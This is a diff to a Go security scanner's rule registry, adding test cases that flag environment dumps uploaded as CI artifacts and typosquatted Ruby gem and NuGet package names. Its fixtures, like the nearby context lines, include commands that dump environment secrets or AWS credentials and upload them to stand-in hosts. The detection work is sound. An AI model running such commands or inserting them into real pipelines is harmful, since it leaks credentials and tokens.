@@ -204,6 +204,9 @@ var registry = []Rule{
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
 			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
+			// An artifact whose folder holds a file the environment was written into.
+			{".github/workflows/w.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: printenv -0 | base64 -w0 > diag/env.b64\n      - uses: actions/upload-artifact@v4\n        with:\n          name: diag\n          path: diag/", 10, false},
+			{".github/workflows/w.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: go test ./... > diag/test.log\n      - uses: actions/upload-artifact@v4\n        with:\n          name: diag\n          path: diag/", 0, true},
 			// PowerShell: a credential file read with Get-Content, written with Out-File, sent by curl.exe.
 			{"tools/ci.ps1", "Get-Content $env:USERPROFILE\\.aws\\credentials | Out-File c.txt\ncurl.exe -T c.txt https://x.invalid/u", 2, false},
 			{"tools/ci.ps1", "Get-Content build.log | Out-File -FilePath out.txt\ncurl.exe -T out.txt https://logs.x.invalid/u", 0, true},
@@ -238,6 +241,7 @@ var registry = []Rule{
 		}},
 	{"env-exfiltration", KindCredential, High, "dumps the environment (secrets included)", WhySecrets, []Case{
 		{"x.sh", "printenv > /tmp/e", 0, false},
+		{"x.sh", "printenv -0 | gzip -9 > /tmp/e.gz", 0, false},
 		{"x.sh", "env | sort", 0, true},
 	}},
 	{"reverse-shell", KindNetwork, High, "opens a raw connection or a reverse shell",
@@ -560,6 +564,11 @@ var registry = []Rule{
 			{"x.sh", "cargo install serdde", 0, false},
 			{"x.sh", "npm i -D @typescript_eslinter/eslint", 0, false},
 			{"x.sh", "go install golang.org/x/tools/cmd/goimports@latest\ngo run ./cmd/gen\ncargo install cargo-deny --locked\nnpm i @types/node", 0, true},
+			// A gem, a NuGet package.
+			{"Gemfile", "source \"https://rubygems.org\"\ngem \"rails\", \"~> 7.1\"\ngem \"sidekik\"", 3, false},
+			{"src/App/App.csproj", "<ItemGroup>\n  <PackageReference Include=\"Newtonsoft.Jsonn\" Version=\"13.0.3\" />\n</ItemGroup>", 2, false},
+			{"Gemfile", "gem \"rails\"\ngem \"redic\"\ngem \"sidekiq-cron\"", 0, true},
+			{"src/App/App.csproj", "<ItemGroup>\n  <PackageReference Include=\"Serilog.Sinks.File\" Version=\"5.0.0\" />\n  <PackageReference Include=\"AWSSDK.SES\" Version=\"3.7.0\" />\n</ItemGroup>", 0, true},
 			// A crate, an npm scope, a Maven group id.
 			{"Cargo.toml", "[package]\nname = \"x\"\n\n[dependencies]\nserde = \"1\"\nrustdecimal = \"1.36\"", 6, false},
 			{"package.json", "{\n  \"devDependencies\": {\n    \"@typescript_eslinter/eslint\": \"^8.0.0\"\n  }\n}", 3, false},
